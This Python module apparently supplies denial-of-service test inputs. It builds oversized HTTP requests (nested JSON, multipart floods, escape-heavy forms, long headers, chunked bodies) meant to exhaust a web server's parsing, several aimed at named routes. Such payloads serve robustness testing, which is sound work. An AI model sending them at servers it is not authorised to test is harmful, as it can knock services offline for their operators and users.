"""Requests that cost a careless server far more than they cost their sender."""

FORM = b"application/x-www-form-urlencoded"
PARTS = b"multipart/form-data; boundary=x"
JSON = b"application/json"
BODY_BYTES = 2**20 - 1
PART = b'--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n5\r\n'
SLASHES = b"/" * 65_000
ROUTE = b"/apielec/getDataById"

BODIES: dict[str, tuple[bytes, bytes]] = {
    "lines before the first part": (PARTS, b"\n" * BODY_BYTES),
    "parts": (PARTS, PART * (BODY_BYTES // len(PART))),
    "lines in a part": (PARTS, PART[:-3] + b"\r\n-" * 340_000),
    "lines in the heads of parts": (PARTS, (b"--x\r\n" + b"A: b\r\n" * 200 + b"\r\n\r\n") * 800),
    "parameters of headers of parts": (
        PARTS,
        (b"--x\r\nContent-Disposition: form-data" + b';a="' * 500 + b"\r\n\r\n5\r\n") * 99,
    ),
    "parameters of a media type": (b"a/b" + b";a=" * 2_600, b"id=5"),
    "brackets in a media type": (b"a/b;" + b"(" * 7_800, b"id=5"),
    "fields": (FORM, b"id=1&" * (BODY_BYTES // 5)),
    "fields of nothing": (FORM, b"&" * BODY_BYTES),
    "escapes": (FORM, b"id=" + b"%41" * 340_000),
    "escapes in Latin-1": (FORM + b"; charset=latin-1", b"id=" + b"%41" * 340_000),
    "ids": (FORM, b"id=" + b",".join(b"%d" % number for number in range(10**9, 10**9 + 90_000))),
    "members": (JSON, b"{" + b'"id":1,' * 140_000 + b'"id":1}'),
    "values in a list": (JSON, b'{"id":[' + b"1," * 500_000 + b"1]}"),
    "objects in a list": (JSON, b'{"id":[' + b'{"a":1},' * 130_000 + b"1]}"),
    "lists in lists": (JSON, b'{"id":' + b"[" * 1_000_000),
    "escapes in JSON": (JSON, b'{"id":"' + b"\\u0041" * 170_000 + b'"}'),
    "blanks in JSON": (JSON, b"{" + b" " * 1_000_000 + b'"id":"5"}'),
}
"""Media types and bodies, each within the limit of a body."""

HEADS: dict[str, bytes] = {
    "slashes": b"GET " + SLASHES + b" HTTP/1.1\r\n",
    "folders of a static route": b"GET /static/swagger" + b"/a" * 32_000 + b" HTTP/1.1\r\n",
    "escaped slashes": b"GET /" + b"%2f" * 21_000 + b" HTTP/1.1\r\n",
    "slashes behind a host": b"GET http://x" + SLASHES + b" HTTP/1.1\r\n",
    "dots in a host": b"GET http://" + b"a." * 32_000 + b"/ HTTP/1.1\r\n",
    "parameters": b"GET " + ROUTE + b"?" + b"a&" * 32_000 + b" HTTP/1.1\r\n",
    "escapes in a parameter": b"GET " + ROUTE + b"?id=" + b"%41" * 21_000 + b" HTTP/1.1\r\n",
    **{
        name: b"GET " + ROUTE + b"?id=5 HTTP/1.1\r\n" + (field + b"\r\n") * 9
        for name, field in {
            "media types": b"Accept: " + b"a/b;q=1," * 1_000,
            "proxies": b"X-Forwarded-For: " + b"127.0.0.1," * 800,
            "proxies without a name": b"X-Forwarded-For: " + b"," * 8_000,
            "codings": b"Accept-Encoding: " + b"a," * 4_000,
            "entity tags": b"If-None-Match: " + b'"a",' * 2_000,
            "cookies": b"Cookie: " + b"a=b;" * 2_000,
            "directives": b"Cache-Control: " + b"a," * 4_000,
        }.items()
    },
    "ranges": b"GET /static/swagger/index.css HTTP/1.1\r\nRange: bytes=" + b"9" * 8_000 + b"-\r\n",
}
"""Request lines and headers, each within the limit of a head."""


def with_body(body: bytes, media_type: bytes, line: bytes, *headers: bytes) -> bytes:
    """Return a request with a body."""
    length = b"Content-Length: %d" % len(body)
    lines = [line, b"Host: x", b"Content-Type: " + media_type, length, *headers, b"", b""]
    return b"\r\n".join(lines) + body


def in_chunks(body: bytes, size: int, line: bytes, *headers: bytes) -> bytes:
    """Return a request whose body comes in chunks of a size."""
    chunks = [body[start : start + size] for start in range(0, len(body), size)]
    coded = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in chunks)
    fields = [b"Content-Type: " + FORM, b"Transfer-Encoding: chunked", *headers]
    return b"\r\n".join([line, b"Host: x", *fields, b"", b""]) + coded + b"0\r\n\r\n"
